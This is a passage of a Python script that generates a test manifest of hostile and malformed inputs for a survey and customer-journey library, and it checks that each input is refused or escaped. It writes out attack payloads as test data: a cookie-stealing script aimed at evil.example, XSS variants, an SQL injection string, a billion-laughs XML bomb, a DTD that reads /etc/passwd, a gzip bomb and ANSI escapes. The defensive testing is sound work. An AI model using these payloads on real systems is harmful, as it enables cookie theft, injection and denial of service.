    ("26_empty_file", refused("invalid_csv", None, None, line=1), None, "no header"),
    ("27_header_only", read((0, 0, 0, 0), []), None, "no responses, no error"),
    ("28_blank_lines", read((1, 0, 0, 0), [9], lines=[4]), None, "blank lines are no rows, but lines are counted"),
    ("29_trailing_commas", read((1, 0, 0, 0), [9]), None, "unnamed empty columns are dropped"),
    ("30_excel_formula_comment", read((5, 0, 0, 0), [9] * 5), None, "comments are data, read as they are"),
    ("31_semicolon_vs_comma", read((1, 0, 0, 0), [9]), None, "the delimiter is found (changed: it was to be an error)"),
    ("31_semicolon_named_comma", refused("unknown_column", None, "score"), {"delimiter": ","}, "named wrongly: one column `id;score`"),
    ("32_tab", read((1, 0, 0, 0), [9]), None, "the delimiter is found (changed: it was to be an error)"),
    ("33_fullwidth_digits", read((0, 0, 2, 0), [None] * 2, [score(0, "not_a_number"), score(1, "not_a_number")]), None, None),
    ("34_sci_hex_underscore", read((1, 0, 3, 0), [None] * 3 + [10], [score(row, "not_a_number") for row in range(3)]), None, "010 is 10; the others are no scores"),
    ("35_inf", read((0, 0, 3, 0), [None] * 3, [score(row, "not_a_number") for row in range(3)]), None, None),
    ("36_whitespace", read((1, 0, 0, 0), [9]), None, "any white space around a cell is trimmed"),
]
FILES = {path.stem for path in (PLACE / "csv").glob("*.csv")}

LEFT_OUT = [
    ("csv/18_german_decimal.csv, csv/19_ambiguous_thousands.csv: the amounts", "amounts arrive with the customer value functions; the scores of the files are read"),
    ("csv/30_excel_formula_comment.csv: the export", "nothing of what a respondent wrote is written to CSV by the survey functions; the reading is here"),
    ("1GB, one_line_1GB in full", "`.ci/deep sizes` runs them; here they are smaller, made by the `generator` of their case"),
    ("json/13_proto_segment", "segments are groups of a frame: ids/proto"),
    ("json/15_invalid_utf8", "a text of Rust has no invalid UTF-8; bytes are refused as `invalid_encoding` in the tests of Python and Node"),
    ("numerics/10, 11, 12, 14 (mean, variance, std), 13 (sum)", "means of any numbers, see means.json"),
    ("numerics/15_perfect_separation, 16_singular, 18_p_gt_n, 20_nan_in_x", "regression, with the drivers"),
    ("numerics/17_constant_predictor, 19_constant_outcome", "drivers"),
    ("numerics/21_clv_discount_-1, 22_clv_r1_d0, 23_retention_gt1, 24_bgnbd_x0, 25_bgnbd_tx_gt_T", "customer lifetime value"),
    ("time/unsorted_events.json", "funnels, with the journeys"),
    ("time/timestamps.json#epoch_ms_as_s", "no function takes a unit of epoch numbers; cxm-core/tests/time.rs tests the core's"),
    ("ids/bool.json as groups", "a list of true, 1 and \"true\" is three kinds in one column; Python and Node users name one"),
    ("journeys/11_xss_names: the address", "a touchpoint has none; that of feedback is refused when it is not of the web: records.json"),
    ("journeys/12_event_unknown_tp", "event logs, with the journeys"),
    ("comments/01_emoji_zwj, 03_zalgo, 08_prompt_injection, 10_pii, 11_pii_decoys, 12_pii_obfuscated, 13_redos, 14_redos_email, 15_only_space, 16_mixed_lang, 17_negation, 18_nfd, 21_homoglyph_theme, 22_turkish", "text is not analysed or redacted yet; feedback keeps it as it came"),
]


# ---------------------------------------------------------------- comments: kept as they came, and text and nothing else wherever they are shown

RTL = "\u05d4\u05e9\u05d9\u05e8\u05d5\u05ea \u05d4\u05d9\u05d4 \u05de\u05e6\u05d5\u05d9\u05df \u202e not evil \u202c 5/5"
SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
VARIANTS = (
    '<img src=x onerror=alert(1)>\n"><svg/onload=alert(1)>\n<a href="java\tscript:alert(1)">x</a>\n<math><mtext></mtext><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">\n{{constructor.constructor("alert(1)")()}}\n${alert(1)}\n'
)
SQL = "'; DROP TABLE responses; --"
MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/p.png) `code`"
ANSI = "\x1b[2J\x1b]0;pwned\x07 red \x1b[31m"
# What a page shows of the comment (True), and what it must not hold (False), by form.
COMMENTS = [
    ("02_rtl", RTL, {"html": {"not evil": True, "\u202e": False, "\u202c": False}, "markdown": {"not evil": True, "\u202e": False}, "text": {"<U+202E>": True, "\u202e": False}, "mermaid": {"\u202e": False}}, "kept; what turns the direction of writing is left out of pages, and visible in a terminal"),
    ("05_script", SCRIPT, {"html": {"&lt;script&gt;fetch(": True, "<script": False}, "markdown": {"&lt;script&gt;fetch(": True, "<script": False}, "mermaid": {"<": False, "#60;script#62;": True}}, "escaped where it is written"),
    ("06_html_variants", VARIANTS, {"html": {"&lt;img src=x": True, "<img": False, "<svg/": False, '<a href="java': False, "<math": False, "<mglyph": False, 'title="--': False}, "markdown": {"<img": False, "<svg": False, "<a": False, "${": False}, "mermaid": {"<img": False, "{{": False}}, "escaped"),
    ("07_sql", SQL, {"html": {"&#39;; DROP TABLE responses; --": True}, "markdown": {SQL: True}, "text": {SQL: True}}, "plain text"),
    ("09_markdown", MARKDOWN, {"html": {"[click](javascript:alert(1))": True, '<a href="java': False, "<img": False}, "markdown": {"\\[click\\]": True, "[click](": False, "![x](": False, "http://": False, "`code`": False}, "text": {MARKDOWN: True}}, "escaped in Markdown; no picture from elsewhere"),
    ("19_ansi", ANSI, {"html": {"\x1b": False, "\x07": False, "pwned": True}, "markdown": {"\x1b": False, "pwned": True}, "text": {"\x1b": False, "\x07": False, "\u241b[2J": True}, "mermaid": {"\x1b": False}}, "escaped in a terminal and in pages"),
]
ASKED = {"id": "s", "rev": 1, "kind": "pulse", "respondents": "customers", "title": {"en": "S"}, "questions": [{"id": "why", "rev": 1, "text": {"en": "Why?"}, "kind": {"openText": {}}}]}


def of_comment(name, text, shown, why):
    """A comment kept by a response, feedback and a case, and shown by a scorecard and a journey map."""
    look = {form: list(parts) for form, parts in shown.items()}
    expect = {form: list(parts.values()) for form, parts in shown.items()}
    card = {form: parts for form, parts in look.items() if form != "mermaid"}
    answered = {"id": "r", "survey": "s", "rev": 1, "at": "2026-11-21T09:00:00Z", "status": "complete", "answers": {"why": text}}
    said = {"id": "f", "kind": "socialPost", "at": "2026-11-21T09:00:00Z", "text": text}
    step = ["transition", {"state": "acknowledged", "by": "emp:1", "at": "2026-11-21T10:00:00Z", "note": text}]
    read = touchpoint("t", name={"en": text}, painPoints=[{"id": "x", "text": {"en": text}}])
    mapped = json.loads(model(journey(stage("a", "awareness", read), LAST, name={"en": text})))
    return [
        {"id": f"comments/{name}/response", "comment": "kept as it came", "call": "parse_response", "survey": ASKED, "response": answered, "expect": {"ok": True, "problems": [], "value": {"answers": {"why": {"text": text}}}}},
        {"id": f"comments/{name}/feedback", "comment": "kept as it came", "call": "problems_of", "kind": "Feedback", "json": json.dumps(said), "expect": NONE},
        {"id": f"comments/{name}/case", "comment": "kept as it came", "call": "case", "open": {"id": "k", "at": "2026-11-21T09:00:00Z"}, "steps": [step], "expect": {"document": {"history": [{"to": "received"}, {"to": "acknowledged", "note": text}]}}},
        {"id": f"comments/{name}/scorecard", "comment": why, "call": "scorecard_pages", "frame": {"said": [text] * 5, "nps": [10, 9, 8, 3, 10]}, "metric": "nps", "options": {"by": "said", "title": text}, "look": card, "expect": {form: expect[form] for form in card}},
        {"id": f"comments/{name}/journey", "comment": why, "call": "journey_pages", "model": mapped, "journey": "j", "look": look, "expect": expect},
    ]


# ---------------------------------------------------------------- files of events


def refused_event(code, row=None, field=None, line=None):
    return refused(code, row, field, **({} if line is None else {"line": line}))


EVENT = '<event><string key="concept:name" value="pay"/><date key="time:timestamp" value="2026-01-01T10:00:00Z"/></event>'


def trace(*events, name='<string key="concept:name" value="ann"/>'):
    return "<log>\n<trace>" + name + "".join("\n" + event for event in events) + "</trace></log>"


LAUGHS = '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "' + "&lol;" * 10 + '"><!ENTITY lol2 "' + "&lol1;" * 10 + '">]>\n<log>&lol2;</log>'
CALL = '{"type": "track", "userId": "ann", "event": "pay", "timestamp": "2026-01-01T10:00:00Z"}\n'
# name, format, text or bytes, options, what is expected, why.
EVENTS = [
    ("billion_laughs", "xes", LAUGHS, None, refused_event("invalid_xml", line=2), "no document type is read, so that no entity can grow"),
    ("dtd", "xes", "<!DOCTYPE log SYSTEM \"file:///etc/passwd\"><log/>", None, refused_event("invalid_xml", line=1), "nothing outside the file is read"),
    ("entity_without_dtd", "xes", trace(EVENT.replace("pay", "&lol;")), None, refused_event("invalid_xml", line=3), "the five entities of XML alone"),
    ("missing_time", "xes", trace(EVENT, '<event><string key="concept:name" value="pay"/></event>'), None, refused_event("too_few", 1, "time:timestamp", 4), None),
    ("missing_name", "xes", trace('<event><date key="time:timestamp" value="2026-01-01"/></event>'), None, refused_event("too_few", 0, "concept:name", 3), None),
    ("missing_case", "xes", trace(EVENT, name=""), None, refused_event("too_few", 0, "case:concept:name", 2), None),
    ("missing_time_dropped", "xes", trace(EVENT, "<event/>"), {"missing": "drop"}, {"n_events": 1, "n_dropped": 1}, None),
    ("bad_time", "xes", trace(EVENT.replace("2026-01-01T10:00:00Z", "01/02/2026")), None, refused_event("invalid_time", 0, "time:timestamp", 3), None),
    ("cut", "xes", trace(EVENT)[:-8], None, refused_event("invalid_xml", line=3), "a file that ends before its log does"),
    ("crossed_tags", "xes", "<log>\n<trace></log></trace>", None, refused_event("invalid_xml", line=2), None),
    ("no_xes", "xes", "<html/>", None, refused_event("invalid_xml", line=1), None),
    ("empty", "xes", "", None, refused_event("invalid_xml", line=1), None),
    ("invalid_utf8", "xes", trace(EVENT).encode().replace(b"pay", b"p\xe4y"), None, refused_event("invalid_encoding", line=3), "Latin-1"),
    ("gzip_bomb", "xes", gzip.compress(b"<log>" + b" " * 100_000 + b"</log>", mtime=0), {"max_bytes": 10_000}, refused_event("invalid_gzip", None, "max_bytes", 1), "what comes out of gzip is bounded"),
    ("gzip_cut", "xes", gzip.compress(trace(EVENT).encode(), mtime=0)[:60], None, refused_event("invalid_gzip"), None),
    ("no_such_key", "xes", trace(EVENT), {"channel": "org:resorce"}, refused_event("unknown_column", None, "org:resorce"), "what no event has was named wrongly"),
    ("ndjson_mixed", "segment", CALL + "3\n", None, refused_event("invalid_json", 1, "event", 2), "a line that is no object"),
    ("ndjson_cut", "segment", CALL + CALL[:20], None, refused_event("invalid_json", 1, "event", 2), None),
    ("ndjson_twice", "segment", CALL.replace('"event"', '"userId": "bob", "event"'), None, refused_event("duplicate_key", 0, "userId", 1), None),
    ("segment_kind", "segment", CALL.replace("track", "trakc"), None, refused_event("invalid_json", 0, "type", 1), None),
    ("segment_nobody", "segment", CALL.replace("userId", "user_id"), None, refused_event("too_few", 0, "userId", 1), None),
    ("cloudevent_epoch", "cloudevents", '{"type": "a", "subject": "b", "time": 1767322645}', None, refused_event("invalid_time", 0, "time", 1), "a unit is declared, never guessed"),
    ("ocel_no_such_type", "ocel", '{"objects": [{"id": "a", "type": "customer"}], "events": []}', {"object_type": "custmer"}, refused_event("unknown_id", None, "object_type"), None),
    ("ocel_unlisted_object", "ocel", '{"objects": [{"id": "a", "type": "c"}], "events": [{"id": "e", "type": "t", "time": "2026-01-01", "relationships": [{"objectId": "b", "qualifier": ""}]}]}', {"object_type": "c"}, refused_event("unknown_id", 0, "relationships"), None),
]


def of_events():
    for name, format, data, options, expect, why in EVENTS:
        content = {"bytes": data.hex()} if isinstance(data, bytes) else {"text": data}
        case = {"id": f"events/{name}", "comment": why, "call": "event_log_read", "format": format, **content, "options": options, "expect": expect}
        yield {key: value for key, value in case.items() if value is not None}
    for name, generator in (("deep", {"unit": "<log>", "times": 100_000}), ("deep_lists", {"head": "<log>", "unit": "<list key=\"a\">", "times": 200})):
        yield {"id": f"events/{name}", "comment": "refused at a depth, no recursion", "call": "event_log_read", "format": "xes", "generator": generator, "expect": refused("nesting_too_deep")}
    yield {"id": "events/deep_json", "comment": "refused at a depth, no recursion", "call": "event_log_read", "format": "cloudevents", "generator": {"head": '{"a":', "unit": "[", "times": 100_000}, "expect": refused("nesting_too_deep", 0, "event")}


# ---------------------------------------------------------------- made by a generator: text that is a head, a unit repeated, and a tail

GENERATED = [
    ("deep_1M", "tally_from_json", {"unit": "[", "times": 1_000_000}, refused("nesting_too_deep"), "1,000,000 nested arrays: refused at a depth, no recursion"),
    ("deep_obj", "tally_from_json", {"unit": '{"a":', "times": 100_000, "tail": "1" + "}" * 100_000}, refused("nesting_too_deep"), "100,000 nested objects"),
    ("wide", "read_survey", {"unit": "c,", "times": 100_000, "tail": "c\n9\n"}, refused("invalid_csv"), "100,000 columns: past max_columns (16,384), before their names are looked at"),
    ("one_line", "read_survey", {"unit": "a", "times": (16 << 20) + 1}, refused("invalid_csv"), "one cell longer than max_field_bytes (16 MiB)"),
    ("13_100k_stages", "problems_of", {"head": MANY_HEAD, "unit": json.dumps(LAST, separators=(",", ":")) + ",", "times": 100_000, "tail": MANY_TAIL}, found(("out_of_range", "error", "/journeys/0/stages")), "1,000 stages at most (max_stages); nothing else is looked at in so long a journey"),
    ("deep_document", "problems_of", {"unit": "[", "times": 1_000_000}, found(("nesting_too_deep", "error", "")), "listed at a depth, no recursion"),
    ("hashflood", "read_survey", {"head": "id,score\n", "unit": "4294967296,9\n", "times": 2}, refused("duplicate_id", 1, "id"), "ids that share their low 32 bits are compared whole; the million of them is in .ci/deep sizes"),
]


def write():
    (PLACE / "state").mkdir(parents=True, exist_ok=True)
    cases = []
    for name, data, expect, why in STATES:
        (PLACE / "state" / f"{name}.bin").write_bytes(data)
        cases.append({"id": f"state/{name}", "comment": why, "call": "tally_from_bytes", "file": f"state/{name}.bin", "expect": expect})
    cases += [{"id": f"numerics/{name}", **case} for name, case in NUMERICS]
    cases += [{"id": f"json/{name}", **({"comment": why} if why else {}), "call": "tally_from_json", "json": text, "expect": expect} for name, text, expect, why in JSON]
    for folder, kind, listed in (("json/record", "SurveyResponse", RECORDS_JSON), ("ids/record", "Customer", RECORD_IDS), ("journeys", "ExperienceModel", JOURNEYS)):
        for name, text, expect, why in listed:
            case = {"id": f"{folder}/{name}", "comment": why, "call": "problems_of", "kind": kind, "json": text, "expect": expect}
            cases.append({key: value for key, value in case.items() if value is not None})
    told = {"call": "journey_pages", "model": json.loads(model(journey(FIRST, LAST))), "journey": "j"}
    look = {form: ["Not in the document"] for form in ("html", "markdown", "text", "mermaid")}
    for form, parts in look.items():
        cases.append({"id": f"journeys/15_no_such_language_{form}", "comment": "the names are in English: the message lists what there is", **told, "options": {"language": "zz"}, "look": {form: parts}, "expect": refused("invalid_option", None, "language", got='"zz"')})
    cases.append({"id": "journeys/15_region_of_a_language", "comment": "en-GB is told in en", **told, "options": {"language": "en-GB"}, "look": look, "expect": {form: [False] for form in look}})
    for name, at in (("time", "2026-11-21T09:00:00"), ("day", "2026-11-21")):
        cases.append({"id": f"time/case_of_a_{name}_without_offset", "comment": "a case has times with their offset", "call": "case", "open": {"id": "k", "at": at}, "steps": [], "expect": refused("invalid_time", None, "at")})
    cases += [case for one in COMMENTS for case in of_comment(*one)]
    (PLACE / "comments").mkdir(parents=True, exist_ok=True)
    (PLACE / "comments" / "20_invalid_utf8.csv").write_bytes(b"score,comment\n9,ok \xc3( \xed\xa0\x80 \xf8\x88\x80\x80\x80\n")
    cases.append({"id": "comments/20_invalid_utf8", "comment": "bytes that are no UTF-8, with an encoded half of a pair and a sequence of five; texts of the three languages have none, and JSON in bytes is refused in the tests of Python and Node", "call": "read_survey", "file": "comments/20_invalid_utf8.csv", "options": {"questions": {"score": "nps"}}, "expect": refused("invalid_encoding", 0, "comment", line=2)})
    cases += [{"id": f"ids/{name}", **({"comment": why} if why else {}), **case} for name, case, why in IDS]
    cases += [{"id": f"time/{name}", **({"comment": why} if why else {}), **case} for name, case, why in TIMES]
    for label, expect, options, why in CSV:
        name = max((file for file in FILES if label[:2] == file[:2]), key=len)
        case = {"id": f"csv/{label}", "comment": why, "call": "read_survey", "file": f"csv/{name}.csv", "options": {"questions": {"score": "nps"}, **(options or {})}, "expect": expect}
        cases.append({key: value for key, value in case.items() if value is not None})
    cases += of_events()
    cases += [{"id": f"generated/{name}", "comment": why, "call": call, "generator": generator, **({"options": {"questions": {"score": "nps"}}} if call == "read_survey" else {"kind": "ExperienceModel"} if call == "problems_of" else {}), "expect": expect} for name, call, generator, expect, why in GENERATED]
    head = {"schema": "cxm-badinputs/1", "about": "Inputs that must be refused, or read in one defined way, the same in every language. Rows are 0-based, lines 1-based."}
    text = json.dumps(head, indent=1)[:-2]
    text += ',\n "left_out": [\n  ' + ",\n  ".join(json.dumps({"entry": entry, "reason": reason}) for entry, reason in LEFT_OUT) + "\n ]"
    text += ',\n "cases": [\n  ' + ",\n  ".join(json.dumps(plain(case)) for case in cases) + "\n ]\n}\n"
    (PLACE / "manifest.json").write_text(text)
    return len(cases)
